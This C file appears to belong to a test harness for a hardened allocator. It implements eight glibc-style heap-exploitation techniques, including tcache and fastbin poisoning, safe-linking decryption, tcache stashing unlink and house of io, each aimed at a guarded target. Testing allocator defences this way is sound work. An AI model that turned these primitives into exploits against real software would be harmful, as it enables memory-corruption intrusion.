/* Links of freed blocks, overwritten by a program that still writes to them, or read: lists
 * that lie in free memory lead where whoever writes there wants. */
#include "attack.h"

enum { PAGE = 4096 };

static void tcache_poisoning(void) {
    _Alignas(16) word stack[32] = {0};
    forbid(stack, sizeof stack);
    void *a = take(128);
    word *b = take(128);
    give(a);
    give(b);
    *b = link_at(b, stack);
    take(128);
    take(128);
}

/* A fast bin wants a size of its own in front of what it hands out. */
static void fastbin_poisoning(void) {
    _Alignas(16) static word target[16] = {0, 96};
    forbid(target, sizeof target);
    struct filler filler = filler_take(88);
    void *a = take(88);
    word *b = take(88);
    filler_give(&filler);
    give(a);
    give(b);
    *b = link_at(b, target);
    take_zeroed(88);
    take_zeroed(88);
}

/* Hidden links are known with the first of them: each 12 bits unhide the next. */
static word unhidden(word hidden) {
    word plain = 0;
    for (unsigned i = 0; i < 6; i++)
        plain = hidden ^ plain >> 12;
    return plain;
}

static void decrypt_safe_linking(void) {
    void *a = take(40);
    volatile word *b = take(40);
    if (b == NULL)
        return;
    *b = 0;
    give(a);
    give((void *)b);
    word hidden = *b;
    if (hidden == (word)a || unhidden(hidden) == (word)a)
        report_leak();
}

/* The first and last of a bin link to the bin, in the C library's own memory. */
static void unsorted_bin_leak(void) {
    void *block = take(1280);
    take(24);
    give_and_leak(block, 1280);
}

/* A fast bin moves to the cache in reverse, behind a link into the program's memory. */
static void fastbin_reverse_into_tcache(void) {
    enum { BEFORE = CACHE_BLOCKS - 1 };
    _Alignas(16) static word target[32];
    forbid(target, sizeof target);
    struct filler filler = filler_take(64);
    word *victim = take(64);
    void *blocks[BEFORE];
    for (size_t i = 0; i < BEFORE; i++)
        blocks[i] = take(64);
    filler_give(&filler);
    give(victim);
    for (size_t i = 0; i < BEFORE; i++)
        give(blocks[i]);
    *victim = link_at(victim, target);
    for (size_t i = 0; i < CACHE_BLOCKS + 2; i++)
        take(64);
}

/* So does a bin of small chunks; the second's link back is believed. */
static void tcache_stashing_unlink(void) {
    _Alignas(16) static word target[32];
    forbid(target, sizeof target);
    void *blocks[CACHE_BLOCKS + 2];
    for (size_t i = 0; i < CACHE_BLOCKS + 2; i++)
        blocks[i] = take(144);
    for (size_t i = 3; i < CACHE_BLOCKS + 2; i++)
        give(blocks[i]);
    give(blocks[1]);
    give(blocks[0]);
    give(blocks[2]);
    take(160); /* sorts them */
    take(144);
    take(144);
    word *second = blocks[2];
    second[1] = (word)target;
    target[3] = (word)&target[8];
    take_zeroed(144);
    take(144);
}

/* The heads of the cache's lists lie at the start of the heap: counts first. */
static void set_cache_head(char *cache, size_t list, const void *to) {
    *(uint16_t *)(void *)(cache + list * sizeof(uint16_t)) = 1;
    *(word *)(void *)(cache + 64 * sizeof(uint16_t) + list * sizeof(word)) = (word)to;
}

static void tcache_metadata_poisoning(void) {
    _Alignas(16) static word target[128];
    forbid(target, sizeof target);
    enum { SIZE = 488, LIST = (SIZE + 8 - 32) / 16 };
    char *first = take(SIZE);
    while (first != NULL && (word)first % PAGE == 0)
        first = take(SIZE); /* in front of that one there is nothing to hit */
    if (first == NULL)
        return;
    word page = (word)first & ~(word)(PAGE - 1);
    set_cache_head((char *)page + 16, LIST, target);
    take(SIZE);
}

/* A freed block names its cache. */
static void house_of_io(void) {
    _Alignas(16) static word target[16];
    forbid(target, sizeof target);
    enum { LIST = 1 };
    volatile word *block = take(40);
    if (block == NULL)
        return;
    block[1] = 0;
    give((void *)block);
    word leaked = block[1];
    word distance = leaked > (word)block ? leaked - (word)block : (word)block - leaked;
    if (distance >= 4096)
        return;
    set_cache_head((char *)leaked, LIST, target);
    take(40);
}

const struct attack attacks_links[] = {
    {"tcache_poisoning", tcache_poisoning},
    {"fastbin_poisoning", fastbin_poisoning},
    {"decrypt_safe_linking", decrypt_safe_linking},
    {"unsorted_bin_leak", unsorted_bin_leak},
    {"fastbin_reverse_into_tcache", fastbin_reverse_into_tcache},
    {"tcache_stashing_unlink", tcache_stashing_unlink},
    {"tcache_metadata_poisoning", tcache_metadata_poisoning},
    {"house_of_io", house_of_io},
    {NULL, NULL},
};
